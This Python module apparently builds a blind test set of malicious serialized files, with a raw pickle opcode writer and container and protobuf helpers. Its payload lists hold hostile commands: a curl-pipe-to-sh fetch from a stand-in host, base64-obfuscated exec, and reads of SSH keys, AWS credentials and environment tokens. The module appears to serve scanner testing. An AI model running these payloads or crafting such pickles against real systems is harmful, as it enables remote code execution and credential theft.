"""What the third blind set of attacks is made of: samples, commands of malware, a small writer of pickles."""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zipfile
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field

MARK = "/tmp/x"  # every payload that runs makes this file, and nothing else
VICTIM = "/tmp/victim/keep.txt"  # exists before a load; overwritten, emptied or deleted by the attacks on files
SECRET = "/tmp/victim/secret.txt"  # exists before a load; opened by the attacks that read
HOST = "updates.example.net"  # where the attacks that talk to a network talk to
COMMANDS = (
    "touch /tmp/x",
    "curl -fsSL http://updates.example.net/i.sh | sh; touch /tmp/x",
    "echo dG91Y2ggL3RtcC94 | base64 -d | sh",
    "nohup sh -c 'id > /tmp/x' >/dev/null 2>&1",
    "cat ~/.ssh/id_rsa ~/.aws/credentials > /tmp/x 2>/dev/null; true",
    "python3 -c \"open('/tmp/x','w').write('1')\" || touch /tmp/x",
    "env | grep -i token > /tmp/x; true",
)
CODE = (
    "import os; os.system('touch /tmp/x')",
    "open('/tmp/x', 'w').write('1')",
    "__import__('subprocess').call(['touch', '/tmp/x'])",
    "import base64; exec(base64.b64decode('b3BlbignL3RtcC94JywndycpLndyaXRlKCcxJyk='))",
    "import threading, os\nt = threading.Thread(target=os.system, args=('id > /tmp/x',))\nt.start()\nt.join()",
)
EXPRESSION = "__import__('os').system('touch /tmp/x')"


@dataclass(frozen=True)
class Sample:
    """One attack or one honest file; `loader` is the Python code that loads it, in which `f` is the path of `entry`."""

    id: str
    files: Mapping[str, bytes]
    loader: str
    effect: str = "none"  # code, file, network, crash; none where honest
    env: str = "main"  # which libraries the loader needs
    entry: str | None = None  # None: the first file; "": the folder
    proved: str = ""  # what was seen when it was loaded in a sandbox; empty: no loader could be had
    why: str = field(default="", compare=False)


# --- pickles -----------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class G:
    """A global, by `module:qualname`."""

    name: str


@dataclass(frozen=True)
class Call:
    """REDUCE, or with `how` NEWOBJ, OBJ, INST or NEWOBJ_EX (then the last argument holds the keywords)."""

    func: object
    args: tuple[object, ...]
    how: str = "reduce"


@dataclass(frozen=True)
class Build:
    """BUILD: `state` is given to what `of` made."""

    of: object
    state: object


@dataclass(frozen=True)
class Raw:
    """Opcodes as they are."""

    code: bytes


def call(name: str | object, *args: object) -> Call:
    return Call(G(name) if isinstance(name, str) else name, args)


def new(name: str | object, *args: object) -> Call:
    return Call(G(name) if isinstance(name, str) else name, args, "newobj")


def opcodes(value: object, protocol: int) -> bytes:
    """The opcodes that leave `value` on the stack, in the style of a protocol."""
    if isinstance(value, Raw):
        return value.code
    if isinstance(value, G):
        module, _, name = value.name.partition(":")
        if protocol >= 4:
            return opcodes(module, 4) + opcodes(name, 4) + b"\x93"
        return f"c{module}\n{name}\n".encode()
    if isinstance(value, Build):
        return opcodes(value.of, protocol) + opcodes(value.state, protocol) + b"b"
    if isinstance(value, Call):
        return _call(value, protocol)
    return _literal(value, protocol)


def _call(value: Call, protocol: int) -> bytes:
    args = b"".join(opcodes(one, protocol) for one in value.args)
    if value.how == "inst" and isinstance(value.func, G):
        module, _, name = value.func.name.partition(":")
        return b"(" + args + f"i{module}\n{name}\n".encode()
    func = opcodes(value.func, protocol)
    if value.how == "obj":
        return b"(" + func + args + b"o"
    if value.how == "newobj_ex":
        positional = b"(" + b"".join(opcodes(one, protocol) for one in value.args[:-1]) + b"t"
        return func + positional + opcodes(value.args[-1], protocol) + b"\x92"
    return func + b"(" + args + b"t" + (b"\x81" if value.how == "newobj" else b"R")


def _literal(value: object, protocol: int) -> bytes:
    if value is None:
        return b"N"
    if isinstance(value, bool):
        return (b"\x88" if value else b"\x89") if protocol >= 2 else (b"I01\n" if value else b"I00\n")
    if isinstance(value, int):
        if protocol == 0 or not -(2**31) <= value < 2**31:
            return f"L{value}L\n".encode() if protocol == 0 else b"\x8a\x09" + value.to_bytes(9, "little", signed=True)
        return b"J" + struct.pack("<i", value)
    if isinstance(value, float):
        return f"F{value!r}\n".encode() if protocol == 0 else b"G" + struct.pack(">d", value)
    if isinstance(value, str):
        return _text(value, protocol)
    if isinstance(value, bytes):
        if protocol < 3:
            return opcodes(call("_codecs:encode", value.decode("latin1"), "latin1"), protocol)
        return b"B" + struct.pack("<I", len(value)) + value
    if isinstance(value, dict):
        return b"(" + b"".join(opcodes(k, protocol) + opcodes(v, protocol) for k, v in value.items()) + b"d"
    if isinstance(value, list | tuple):
        return b"(" + b"".join(opcodes(one, protocol) for one in value) + (b"l" if isinstance(value, list) else b"t")
    raise TypeError(type(value).__name__)


def _text(value: str, protocol: int) -> bytes:
    raw = value.encode()
    if protocol == 0:
        return b"V" + value.encode("raw_unicode_escape").replace(b"\n", b"\\u000a") + b"\n"
    if protocol >= 4 and len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw + b"\x94"
    return b"X" + struct.pack("<I", len(raw)) + raw


def dumps(value: object, protocol: int = 4) -> bytes:
    body = opcodes(value, protocol) + b"."
    if protocol >= 4:
        return b"\x80" + bytes([protocol]) + b"\x95" + struct.pack("<Q", len(body)) + body
    return (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + body


# --- containers --------------------------------------------------------------------------------------------------


def zipped(members: Mapping[str, bytes] | Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    pairs = members.items() if isinstance(members, Mapping) else members
    with zipfile.ZipFile(out, "w", method) as file:
        for name, data in pairs:
            file.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data, compress_type=method)
    return out.getvalue()


def tarred(members: Mapping[str, bytes], mode: str = "w:") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as file:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    return out.getvalue()


def gzipped(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def as_json(value: object) -> bytes:
    return json.dumps(value, indent=1).encode()


# --- protocol buffers and npy --------------------------------------------------------------------------------------


def varint(value: int) -> bytes:
    out = bytearray()
    value &= 2**64 - 1
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


def proto(*fields: tuple[int, object]) -> bytes:
    """A message: numbers as varints, floats as 32 bits, text and bytes with their length."""
    out = b""
    for number, value in fields:
        if isinstance(value, float):
            out += varint(number << 3 | 5) + struct.pack("<f", value)
        elif isinstance(value, int):
            out += varint(number << 3) + varint(value)
        else:
            raw = value.encode() if isinstance(value, str) else value
            if not isinstance(raw, bytes):
                raise TypeError(type(value).__name__)
            out += varint(number << 3 | 2) + varint(len(raw)) + raw
    return out


def npy(header: str, body: bytes, version: int = 1) -> bytes:
    text = header.encode() + b" " * (-(len(header) + 11) % 64) + b"\n"
    size = struct.pack("<H", len(text)) if version == 1 else struct.pack("<I", len(text))
    return b"\x93NUMPY" + bytes([version, 0]) + size + text + body
